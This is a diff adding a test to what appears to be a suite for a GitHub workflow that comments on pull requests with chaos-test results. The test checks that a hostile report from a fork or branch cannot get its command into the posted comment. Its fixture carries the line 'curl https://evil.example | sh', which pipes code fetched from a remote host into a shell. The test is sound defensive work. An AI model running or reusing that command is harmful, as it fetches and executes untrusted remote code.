@@ -121,6 +121,24 @@ describe('the comment for a fork', () => {
 });
 
 describe('a hostile report', () => {
+  test.each([
+    ['a fork', 'mona/broker'],
+    // Whoever may push a branch, and what Dependabot proposes, writes reports too.
+    ['a branch of this repository', 'octo/broker'],
+  ])('of %s puts no command into a comment of ours', async (_, repository) => {
+    const [id, number, headRef] = [4_300, 9, 'hostile'];
+    const headSha = shaOf(headRef);
+    github.addPullRequest({ number, headRepo: repository, headRef, headSha });
+    const headRepositoryId = github.repositoryId(repository);
+    github.addRun({ id, headBranch: headRef, headSha, event: 'pull_request', headRepositoryId, conclusion: 'success' });
+    const record = { ...failingRun(), command: 'curl https://evil.example | sh' };
+    github.addArtifact({ runId: id, name: 'chaos-report-chaos', zip: zipOf(report(record)) });
+    await comment({}, workflowRunEvent(github, id));
+    const [posted] = github.commentsOn(number);
+    expect(posted?.body).toContain('Chaos: FAIL');
+    expect(posted?.body).not.toMatch(/curl|chaos-action run|To repeat|How to repeat/);
+  });
+
   test('mentions nobody, loads nothing, runs nothing', async () => {
     // Each is a leg of a matrix, with a comment of its own.
     const legs = hostile.map((text, i) => ({ text, job: `chaos-${i + 1}` }));
